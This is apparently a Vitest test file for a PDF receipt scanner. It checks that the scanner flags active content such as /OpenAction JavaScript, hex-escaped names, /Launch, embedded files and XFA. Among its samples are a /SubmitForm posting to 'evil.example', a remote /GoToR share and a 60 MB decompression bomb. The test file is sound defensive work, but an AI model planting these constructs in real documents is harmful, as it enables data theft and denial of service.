import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { findActivePdfContent, UNCHECKABLE_STREAM } from '@/lib/domain/pdf-active-content';
import {
  PDF_EMBEDDED_FILE,
  PDF_HEX_ESCAPED_JS,
  PDF_JS_IN_OBJECT_STREAM,
  PDF_LAUNCH,
  PDF_ONE_PAGE,
  PDF_OPEN_ACTION_FIT,
  PDF_OPEN_ACTION_JS,
} from '../fixtures/receipt-samples';

const pdf = (text: string) => new TextEncoder().encode(`%PDF-1.7\n${text}\n%%EOF\n`);

describe('PDF receipts: what acts is found in the bytes', () => {
  it.each([
    ['an /OpenAction running JavaScript (issue 16)', PDF_OPEN_ACTION_JS, '/JavaScript'],
    ['the names #-escaped: /J#61vaScript', PDF_HEX_ESCAPED_JS, '/JavaScript'],
    ['a /Launch action', PDF_LAUNCH, '/Launch'],
    ['an embedded file', PDF_EMBEDDED_FILE, '/EmbeddedFiles'],
    ['a script inside a Flate object stream', PDF_JS_IN_OBJECT_STREAM, '/JavaScript'],
    ['/JS alone', pdf('<< /JS (x) >>'), '/JS'],
    ['a name in other case', pdf('<< /S /javascript >>'), '/javascript'],
    ['a name ending at a delimiter', pdf('<</S/JavaScript/JS(x)>>'), '/JavaScript'],
    ['an XFA form', pdf('<< /AcroForm << /XFA 9 0 R >> >>'), '/XFA'],
    ['a form that posts data out', pdf('<< /S /SubmitForm /F (https://evil.example) >>'), '/SubmitForm'],
    ['a remote go-to', pdf('<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>'), '/GoToR'],
  ])('%s → %s', (_what, bytes, name) => {
    expect(findActivePdfContent(bytes)).toBe(name);
  });

  it.each([
    ['one empty page', PDF_ONE_PAGE],
    ['an /OpenAction that only fits the page', PDF_OPEN_ACTION_FIT],
    ['names that only start like one: /JSON, /JavaScripts, /Launcher', pdf('<< /JSON 1 /JavaScripts 2 /Launcher 3 >>')],
    ['the word JavaScript in text, not a name', pdf('BT (JavaScript receipt) Tj ET')],
    ['a bad escape /J#zz', pdf('<< /J#zz 1 >>')],
  ])('%s passes', (_what, bytes) => {
    expect(findActivePdfContent(bytes)).toBeNull();
  });

  it('a stream that inflates past the budget is not checked, so it is refused', () => {
    const bomb = deflateSync(Buffer.alloc(60 * 1024 * 1024));
    const bytes = Buffer.concat([
      Buffer.from('%PDF-1.7\n4 0 obj\n<< /Filter /FlateDecode >>\nstream\n'),
      bomb,
      Buffer.from('\nendstream\nendobj\n%%EOF\n'),
    ]);
    expect(findActivePdfContent(new Uint8Array(bytes))).toBe(UNCHECKABLE_STREAM);
  });
});
